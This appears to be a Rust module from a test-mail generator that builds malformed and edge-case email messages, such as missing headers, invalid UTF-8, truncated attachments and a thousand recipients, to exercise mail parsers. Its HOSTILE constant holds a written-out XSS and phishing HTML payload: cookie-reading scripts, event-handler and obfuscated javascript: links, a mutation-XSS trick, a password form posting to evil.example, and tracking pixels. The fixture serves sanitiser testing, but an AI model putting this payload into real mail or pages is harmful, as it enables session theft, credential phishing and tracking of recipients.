//! Mail that real mailboxes contain although no standard allows it, and mail that tries the limits.

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use super::files;
use super::mime::{self, Charset, Part, Transfer};
use super::people::Person;
use super::text::{self, Language};

/// A kind of odd message.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Oddity {
    /// No Message-ID header.
    MissingMessageId,
    /// No Date header.
    MissingDate,
    /// Everyone of these has the same Message-ID.
    DuplicateMessageId,
    /// Bytes above 127 without a charset, in header and body, that are no UTF-8.
    InvalidUtf8,
    /// Scripts, event handlers, forms, `javascript:` links, style tricks, remote images.
    HostileHtml,
    /// A subject of 600 characters in three scripts.
    LongSubject,
    /// No Subject header.
    NoSubject,
    /// 1,000 recipients in To and Cc.
    ThousandRecipients,
    /// Rich text hidden in `winmail.dat`.
    Winmail,
    /// A mail attached to a mail attached to a mail.
    NestedMessage,
    /// Headers only.
    EmptyBody,
    /// An ASCII table of wide lines that says `format=flowed`.
    Flowed,
    /// A multipart whose closing boundary was cut off in the middle of a base64 attachment.
    Truncated,
    /// Text in a charset that doesn't exist.
    UnknownCharset,
    /// From an Exchange address that is no SMTP address.
    LegacyAddress,
    /// 30 MB: only on demand, never in a generated mailbox.
    Huge,
}

impl Oddity {
    /// What a generated mailbox contains: all but [`Oddity::Huge`].
    pub const ALL: &[Self] = &[
        Self::MissingMessageId,
        Self::MissingDate,
        Self::DuplicateMessageId,
        Self::InvalidUtf8,
        Self::HostileHtml,
        Self::LongSubject,
        Self::NoSubject,
        Self::ThousandRecipients,
        Self::Winmail,
        Self::NestedMessage,
        Self::EmptyBody,
        Self::Flowed,
        Self::Truncated,
        Self::UnknownCharset,
        Self::LegacyAddress,
    ];

    /// The Message-ID that [`Oddity::DuplicateMessageId`] repeats.
    pub const DUPLICATE_ID: &str = "<same-again@mailer.example>";

    /// By its name in kebab case, such as `missing-date`.
    pub fn named(name: &str) -> Option<Self> {
        let wanted: String = name.chars().filter(|c| *c != '-').collect();
        Self::ALL
            .iter()
            .chain([&Self::Huge])
            .copied()
            .find(|o| format!("{o:?}").eq_ignore_ascii_case(&wanted))
    }

    pub(super) fn message_id(self, domain: &str, rng: &mut ChaCha8Rng) -> Option<String> {
        match self {
            Self::MissingMessageId => None,
            Self::DuplicateMessageId => Some(Self::DUPLICATE_ID.to_owned()),
            _ => Some(format!("<odd.{:016x}@{domain}>", rng.random::<u64>())),
        }
    }

    pub(super) fn subject(self, rng: &mut ChaCha8Rng) -> String {
        match self {
            Self::NoSubject => String::new(),
            Self::LongSubject => {
                let mut out = String::new();
                while out.chars().count() < 600 {
                    for language in [Language::English, Language::Russian, Language::Chinese] {
                        out.push_str(&text::sentence(language, rng));
                        out.push(' ');
                    }
                }
                out.chars()
                    .take(600)
                    .collect::<String>()
                    .trim_end()
                    .to_owned()
            }
            other => format!("{} ({other:?})", text::subject(Language::English, rng)),
        }
    }

    pub(super) fn size(self) -> usize {
        match self {
            Self::ThousandRecipients => 55_000,
            Self::Huge => 41_000_000,
            Self::LongSubject => 3_500,
            _ => 1_500,
        }
    }

    /// Renders the whole message.
    pub(super) fn render(self, m: &Odd<'_>) -> Vec<u8> {
        let mut rng = ChaCha8Rng::seed_from_u64(m.seed);
        let mut out = Vec::new();
        let from = match self {
            Self::LegacyAddress => {
                "\"Old Exchange\" </O=CORP/OU=FIRST/CN=RECIPIENTS/CN=OLDUSER>".to_owned()
            }
            _ => mime::mailbox(&m.from.name, &m.from.address, Charset::Utf8),
        };
        mime::header(&mut out, "From", &from);
        if self == Self::ThousandRecipients {
            mime::header(&mut out, "To", &crowd(&m.owner.address, 0..500));
            mime::header(&mut out, "Cc", &crowd("", 500..1_000));
        } else {
            mime::header(
                &mut out,
                "To",
                &mime::mailbox(&m.owner.name, &m.owner.address, Charset::Utf8),
            );
        }
        match self {
            Self::NoSubject => {}
            Self::InvalidUtf8 => {
                out.extend_from_slice(b"Subject: Caf\xe9 invoice \xff\xfe overdue\r\n")
            }
            _ => mime::header(
                &mut out,
                "Subject",
                &mime::encoded(m.subject, Charset::Utf8, 9),
            ),
        }
        if self != Self::MissingDate {
            mime::header(&mut out, "Date", &mime::date(m.time));
        }
        if let Some(id) = m.id {
            mime::header(&mut out, "Message-ID", id);
        }
        if self == Self::EmptyBody {
            return out;
        }
        mime::header(&mut out, "MIME-Version", "1.0");
        let sentence = text::paragraph(Language::English, 300, &mut rng);
        match self {
            Self::InvalidUtf8 => {
                out.extend_from_slice(b"Content-Type: text/plain\r\n\r\nCaf\xe9 cr\xe8me \xc3\x28 \xff and a lone \xe2\x82 end.\r\n");
                out.extend_from_slice(sentence.as_bytes());
                out.extend_from_slice(b"\r\n");
            }
            Self::UnknownCharset => {
                out.extend_from_slice(b"Content-Type: text/plain; charset=x-klingon-7\r\nContent-Transfer-Encoding: 8bit\r\n\r\n");
                out.extend_from_slice(sentence.as_bytes());
                out.extend_from_slice(b"\r\n");
            }
            Self::Truncated => {
                let cut = Part::multi(
                    "mixed",
                    vec![
                        plain(&sentence),
                        Part::attachment("scan.png", "image/png", &files::png(24, 24, 5)),
                    ],
                );
                cut.write(&mut out, &mut rng);
                out.truncate(out.len().saturating_sub(900));
            }
            _ => self.body(&sentence, m, &mut rng).write(&mut out, &mut rng),
        }
        out
    }

    fn body(self, sentence: &str, m: &Odd<'_>, rng: &mut ChaCha8Rng) -> Part {
        match self {
            Self::HostileHtml => Part::multi(
                "alternative",
                vec![
                    plain(sentence),
                    html(&format!("{HOSTILE}<p>{sentence}</p>")),
                ],
            ),
            Self::Winmail => Part::multi(
                "mixed",
                vec![
                    plain(sentence),
                    Part::attachment(
                        "winmail.dat",
                        "application/ms-tnef",
                        &files::tnef(m.subject),
                    ),
                ],
            ),
            Self::NestedMessage => {
                let inner = nested("Innermost", &plain(sentence), rng);
                let middle = nested(
                    "Middle",
                    &Part::multi("mixed", vec![plain("See below."), inner]),
                    rng,
                );
                Part::multi("mixed", vec![plain("Forwarded twice."), middle])
            }
            Self::Flowed => {
                let rows: String = (0..12)
                    .map(|i| format!("| {i:>4} | {:<70} | \n", text::name_of_thing(rng)))
                    .collect();
                Part::text(
                    "plain; format=flowed; delsp=yes",
                    Charset::Utf8,
                    Transfer::SevenBit,
                    &rows,
                )
            }
            Self::Huge => Part::multi(
                "mixed",
                vec![
                    plain(sentence),
                    Part::attachment(
                        "film.bin",
                        "application/octet-stream",
                        &files::noise(30_000_000, m.seed),
                    ),
                ],
            ),
            _ => plain(sentence),
        }
    }
}

/// What an odd message is made from.
pub(super) struct Odd<'a> {
    pub(super) from: &'a Person,
    pub(super) owner: &'a Person,
    pub(super) subject: &'a str,
    pub(super) id: Option<&'a str>,
    pub(super) time: u64,
    pub(super) seed: u64,
}

fn plain(text: &str) -> Part {
    Part::text("plain", Charset::Utf8, Transfer::QuotedPrintable, text)
}

fn html(text: &str) -> Part {
    Part::text("html", Charset::Utf8, Transfer::QuotedPrintable, text)
}

fn nested(subject: &str, body: &Part, rng: &mut ChaCha8Rng) -> Part {
    let mut inner = Vec::new();
    mime::header(&mut inner, "From", "Inner Sender <inner@nested.example>");
    mime::header(&mut inner, "To", "Somebody <somebody@nested.example>");
    mime::header(&mut inner, "Subject", subject);
    mime::header(&mut inner, "Date", "Thu, 01 Oct 2026 08:00:00 +0000");
    mime::header(
        &mut inner,
        "Message-ID",
        &format!("<{:x}@nested.example>", rng.random::<u64>()),
    );
    mime::header(&mut inner, "MIME-Version", "1.0");
    body.write(&mut inner, rng);
    Part::plain("message/rfc822", &inner)
}

fn crowd(first: &str, numbers: std::ops::Range<usize>) -> String {
    let mut all = Vec::new();
    if !first.is_empty() {
        all.push(first.to_owned());
    }
    let room = numbers.len() - all.len();
    all.extend(
        numbers
            .take(room)
            .map(|n| format!("\"Guest {n}\" <guest{n}@crowd.example>")),
    );
    all.join(",\r\n ")
}

const HOSTILE: &str = r#"<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/r">
<link rel="stylesheet" href="https://evil.example/s.css"><style>@import url(https://evil.example/i.css); body{background:url('https://evil.example/bg.png')} .x{position:fixed;top:0;left:0;width:100%;height:100%}</style></head>
<body onload="alert(1)"><script>alert(document.cookie)</script><img src="x" onerror="alert(2)"><img src="https://evil.example/pixel.gif?u=me" width="1" height="1">
<a href="javascript:alert(3)">Your parcel</a><a href="  java&#10;script:alert(4)">is waiting</a><svg onload="alert(5)"><script>alert(6)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>
<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form><iframe src="https://evil.example/f"></iframe>
<object data="https://evil.example/o"></object><div style="background-image:url(https://evil.example/track)" class="x">Pay now</div>
<a href="data:text/html,<script>alert(8)</script>">Open</a><p id="visible">Only this line is harmless.</p>"#;
